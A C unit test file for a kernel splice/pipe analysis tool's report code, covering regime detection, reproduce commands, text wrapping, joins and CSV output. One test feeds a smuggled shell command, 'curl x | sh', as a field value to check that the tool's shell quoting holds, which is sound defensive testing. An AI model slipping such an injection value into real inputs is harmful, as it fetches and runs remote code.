/* analyze's pure pieces: the regime from a kernel's cells and from its
 * release, the reproduce command, word wrapping, frames, panels, joins. */
#include "cmocka_prelude.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "../../analyze/analyze.h"

static struct acell make(const char *id, int outcome, bool pnb, long long eagain,
			 unsigned int clues)
{
	return (struct acell){.id = (char *)id,
			      .scenario = (char *)"drain",
			      .transport = (char *)"tcp4",
			      .loop = (char *)"busy",
			      .sender = (char *)"one",
			      .pipe_req = 65536,
			      .payload = 1 << 20,
			      .chunk = 1 << 20,
			      .head_start = 262144,
			      .pnb = pnb,
			      .outcome = outcome,
			      .eagain = eagain,
			      .clues = clues};
}

static enum regime regime_of(struct acell *cells, size_t n, const char *release)
{
	struct run run = {.cells = cells, .ncells = n, .label = "k", .release = release};
	struct regime_view view;
	regime_of_run(&run, &view);
	return view.regime;
}

static const unsigned int entry = CLUE_STACK | CLUE_STACK_ENTRY | CLUE_SLEEPS_IN_SPLICE;
static const unsigned int midcall = CLUE_STACK | CLUE_STACK_MIDCALL | CLUE_SLEEPS_IN_SPLICE;

static void test_regimes(void **state)
{
	(void)state;
	struct acell c[2];
	c[0] = make("d,pnb=0,x", OUTCOME_BLOCKED, false, 0, entry);
	c[1] = make("d,pnb=1,x", OUTCOME_SPIN, true, 100, 0);
	assert_int_equal(regime_of(c, 2, "6.1.0"), REGIME_C);
	c[1] = make("d,pnb=1,x", OUTCOME_BLOCKED, true, 0, entry);
	assert_int_equal(regime_of(c, 2, "4.19.0"), REGIME_B);
	assert_int_equal(regime_of(c, 1, "4.19.0"), REGIME_BC);
	c[0] = make("d,pnb=0,x", OUTCOME_BLOCKED, false, 0, midcall);
	c[1] = make("d,pnb=1,x", OUTCOME_BLOCKED, true, 0, midcall);
	assert_int_equal(regime_of(c, 2, "3.10.0"), REGIME_A);
	c[1] = make("d,pnb=1,x", OUTCOME_SPIN, true, 5, 0);
	assert_int_equal(regime_of(c, 2, "3.10.0"), REGIME_MIXED);
	/* Without a stack (not root), an O_NONBLOCK pipe that does not stop
	 * the sleep still says: before 5.1. */
	c[0] = make("d,pnb=1,x", OUTCOME_BLOCKED, true, 0, CLUE_SLEEPS_IN_SPLICE);
	assert_int_equal(regime_of(c, 1, "3.10.0"), REGIME_AB);
	/* Stuck without a stack and no promotion test: nothing to say. */
	c[0] = make("d,pnb=0,x", OUTCOME_BLOCKED, false, 0, CLUE_SLEEPS_IN_SPLICE);
	assert_int_equal(regime_of(c, 1, "6.1.0"), REGIME_UNKNOWN);
	/* EAGAIN with a non-blocking socket proves nothing about the pipe. */
	c[0] = make("d,pnb=1,x", OUTCOME_SPIN, true, 5, 0);
	c[0].snb = true;
	assert_int_equal(regime_of(c, 1, "6.1.0"), REGIME_UNKNOWN);
}

static void test_release(void **state)
{
	(void)state;
	assert_int_equal(regime_of_release("3.10.0-1160.el7.x86_64"), REGIME_A);
	assert_int_equal(regime_of_release("4.8.15"), REGIME_A);
	assert_int_equal(regime_of_release("4.9.0"), REGIME_B);
	assert_int_equal(regime_of_release("5.0.21"), REGIME_B);
	assert_int_equal(regime_of_release("5.1.0"), REGIME_C);
	assert_int_equal(regime_of_release("6.18.44-fc-v595"), REGIME_C);
	assert_int_equal(regime_of_release("unknown"), REGIME_UNKNOWN);
}

static void test_reproduce(void **state)
{
	(void)state;
	struct acell c = make("x", OUTCOME_OK, true, 0, 0);
	c.flags = SPLICE_F_NONBLOCK | SPLICE_F_MOVE;
	c.payload = 25000;
	char cmd[512];
	reproduce_command(&c, cmd, sizeof cmd);
	assert_string_equal(cmd, "build/splicelab -s drain -t tcp4 -p 64K -n 25000 -c 1M -f "
				 "NONBLOCK+MOVE --pipe-nonblock on --src-nonblock off "
				 "--dst-nonblock off -l busy --sender one --head-start 256K");
	c.profile = (char *)"go1.20";
	c.pipe_req = 0;
	reproduce_command(&c, cmd, sizeof cmd);
	assert_string_equal(cmd, "build/splicelab -P go1.20 -s drain -t tcp4 -n 25000 --sender "
				 "one --head-start 256K");
}

/* wrap()'s output for these arguments is want. */
static void assert_wrapped(const char *prefix, const char *indent, const char *text, int width,
			   const char *want)
{
	char *got = NULL;
	size_t len = 0;
	FILE *out = open_memstream(&got, &len);
	wrap(out, prefix, indent, text, width);
	fclose(out);
	assert_string_equal(got, want);
	free(got);
}

static void test_text_pieces(void **state)
{
	(void)state;
	char buf[256];
	frame_name("pipe_wait_writable+0xdc/0x130", buf, sizeof buf);
	assert_string_equal(buf, "pipe_wait_writable");
	frame_name("[<0>] pipe_wait+0x6f/0xc0", buf, sizeof buf);
	assert_string_equal(buf, "pipe_wait");
	struct acell c = make("x", OUTCOME_OK, true, 0, 0);
	c.flags = SPLICE_F_MORE;
	group_key(&c, buf, sizeof buf);
	assert_string_equal(buf, "drain,tcp4,chunk=1M,flags=MORE,pnb=1,snb=0,dnb=0,loop=busy,"
				 "sender=one,head=256K");

	assert_wrapped("- ", "  ", "aaaa bbbb cccc dddd eeee", 11, "- aaaa bbbb\n  cccc dddd\n  eeee\n");

	size_t used = 0;
	appendf(buf, 8, &used, "%s", "abc");
	appendf(buf, 8, &used, "%s", "defghij");
	assert_string_equal(buf, "abcdefg");
	assert_int_equal(used, 8);
}

/* The load facts in words: counts with only the non-zero kinds, pipe
 * sizes as count x size, refusals with their errno, and the accounting
 * clue only for EPERM. */
static void test_load_pieces(void **state)
{
	(void)state;
	struct load_facts f = {.present = true, .connections = 128, .finished = 32, .blocked = 96,
			       .soft = 16384, .hard = 0, .pages_at_start = 16546,
			       .refused = 193, .nsizes = 3, .page_size = 4096};
	snprintf(f.user, sizeof f.user, "nobody");
	snprintf(f.refused_errno, sizeof f.refused_errno, "EPERM");
	f.sizes[0] = (struct load_size){1048576, 63};
	f.sizes[1] = (struct load_size){65536, 15};
	f.sizes[2] = (struct load_size){4096, 178};
	char buf[512];
	load_counts_text(&f, buf, sizeof buf);
	assert_string_equal(buf, "32 of 128 finished, 96 blocked");
	load_pipes_text(&f, buf, sizeof buf);
	assert_string_equal(buf, "63 × 1M, 15 × 64K, 178 × 4K");
	load_refused_text(&f, buf, sizeof buf);
	assert_string_equal(buf, "193 (EPERM)");
	load_limits_text(&f, buf, sizeof buf);
	assert_string_equal(buf, "soft 16384, hard 0; 16546 pages at start");
	assert_int_equal(load_smallest_pipe(&f), 4096);
	assert_true(load_accounting_bit(&f));
	snprintf(f.refused_errno, sizeof f.refused_errno, "EINVAL");
	assert_false(load_accounting_bit(&f));
	f.invoking = true;
	f.connections = 1;
	load_condition_text(&f, buf, sizeof buf);
	assert_string_equal(buf, "1 connection as the invoking user");
	f.refused = 0;
	f.nsizes = 0;
	f.soft = -1;
	load_refused_text(&f, buf, sizeof buf);
	assert_string_equal(buf, "none");
	load_pipes_text(&f, buf, sizeof buf);
	assert_string_equal(buf, "-");
	load_limits_text(&f, buf, sizeof buf);
	assert_string_equal(buf, "soft -, hard 0; 16546 pages at start");
}

static void test_join(void **state)
{
	(void)state;
	struct acell a[2] = {make("x", OUTCOME_OK, false, 0, 0),
			     make("y", OUTCOME_BLOCKED, false, 0, entry)};
	struct acell b[2] = {make("y", OUTCOME_OK, false, 0, 0), make("z", OUTCOME_OK, false, 0, 0)};
	struct run runs[2] = {{.cells = a, .ncells = 2, .label = "A"},
			      {.cells = b, .ncells = 2, .label = "B"}};
	struct joined joined;
	assert_int_equal(join_runs(&joined, runs, 2), 0);
	assert_int_equal(joined.nrows, 3);
	assert_string_equal(joined.rows[0].id, "x");
	assert_string_equal(joined.rows[2].id, "z");
	assert_true(joined.rows[0].partial);
	assert_true(joined.rows[1].divergent);
	assert_false(joined.rows[1].partial);
	assert_int_equal(joined.ndivergent, 3);
	assert_int_equal(joined.npartial, 2);
	assert_int_equal(join_find(&joined, "y"), 1);
	assert_int_equal(join_find(&joined, "nope"), -1);
	assert_ptr_equal(join_cell(&joined, 1, 1), &b[0]);
	assert_null(join_cell(&joined, 2, 0));
	size_t rows[4];
	assert_int_equal(join_pick(&joined, rows, 2), 2);
	assert_int_equal(rows[0], 0);

	/* The table: differing rows only, missing cells named, no colour. */
	runs[0].release = runs[1].release = "6.1";
	runs[0].virt = runs[1].virt = "native";
	runs[0].probes_mode = runs[1].probes_mode = "none";
	runs[0].counts[OUTCOME_OK] = 1;
	runs[0].counts[OUTCOME_BLOCKED] = 1;
	/* text_report reads it through joined.runs. */
	// cppcheck-suppress unreadVariable
	runs[1].counts[OUTCOME_OK] = 2;
	char *text = NULL;
	size_t len = 0;
	FILE *out = open_memstream(&text, &len);
	struct report_opts opts = {.all = false};
	assert_int_equal(text_report(out, &joined, &opts), 0);
	fclose(out);
	assert_string_equal(text, "A  A  6.1, native, probes none: 2 cells: ok 1, blocked 1\n"
				  "B  B  6.1, native, probes none: 2 cells: ok 2\n"
				  "\n"
				  "A        B        cell\n"
				  "ok       -        x  (only on A)\n"
				  "blocked  ok       y\n"
				  "-        ok       z  (only on B)\n"
				  "\n"
				  "3 cells joined: 3 differ between kernels, 2 of them missing on some "
				  "kernel (--all shows every cell)\n");
	free(text);

	/* The CSV: ids quoted when they hold a comma, missing cells named. */
	text = NULL;
	out = open_memstream(&text, &len);
	assert_int_equal(csv_report(out, &joined), 0);
	fclose(out);
	assert_non_null(strstr(text, "\nx,drain,,tcp4,65536,1048576,1048576,none,0,0,0,busy,one,"
				     "262144,yes,ok,true,0,,0,0,0,0.0,0.0,,,,,,,,,,,,,,"
				     "missing,,,,,,,,,,,,,,,,,,,,,\n"));
	free(text);
	join_free(&joined);
}

/* Shell words: each command a report prints, run by sh with printf in
 * place of splicelab, gives back exactly the values it was built from,
 * whatever they hold; and the allowed lists come from the engine. */
static void test_shell_words(void **state)
{
	(void)state;
	struct acell c = make("x", OUTCOME_OK, true, 0, 0);
	c.sender = (char *)"one; curl x | sh #";
	c.loop = (char *)"it's";
	char cmd[1024], script[1200];
	reproduce_command(&c, cmd, sizeof cmd);
	assert_non_null(strstr(cmd, "--sender 'one; curl x | sh #'"));
	snprintf(script, sizeof script, "printf '[%%s]\\n' %s", cmd + strlen("build/splicelab "));
	FILE *sh = popen(script, "r");
	assert_non_null(sh);
	char got[1024] = "";
	size_t n = fread(got, 1, sizeof got - 1, sh);
	got[n] = '\0';
	assert_int_equal(pclose(sh), 0);
	assert_non_null(strstr(got, "\n[--sender]\n[one; curl x | sh #]\n"));
	assert_non_null(strstr(got, "\n[-l]\n[it's]\n"));
	char word[64];
	sh_word("go1.21.5+", word, sizeof word);
	assert_string_equal(word, "go1.21.5+");
	sh_word("", word, sizeof word);
	assert_string_equal(word, "''");

	assert_int_equal(allowed_index(FIELD_SCENARIO, "drain"), SCENARIO_DRAIN);
	assert_int_equal(allowed_index(FIELD_SCENARIO, "<script>"), -1);
	assert_true(allowed_index(FIELD_PROFILE, "go1.21.0-1.21.4") >= 0);
	assert_int_equal(allowed_index(FIELD_PROFILE, "go9"), -1);
	assert_int_equal(allowed_index(FIELD_FLAG, "GIFT"), 3);
	char list[256];
	allowed_text(FIELD_LOOP, list, sizeof list);
	assert_string_equal(list, "busy, poll, epoll");
	assert_true(id_allowed("profile=go1.21.5+,proxy,tcp4,pipe=1M,flags=NONBLOCK|MOVE"));
	assert_false(id_allowed("a b"));
	assert_false(id_allowed("a\nb"));
	assert_false(id_allowed(""));

	/* A word longer than the line is cut: no line over the width. */
	assert_wrapped("", "", "ab abcdefghijklmnop\x1b cd", 8, "ab\nabcdefgh\nijklmnop\n? cd\n");
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_regimes),	  cmocka_unit_test(test_release),
		cmocka_unit_test(test_reproduce), cmocka_unit_test(test_text_pieces),
		cmocka_unit_test(test_load_pieces), cmocka_unit_test(test_join),	  cmocka_unit_test(test_shell_words),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
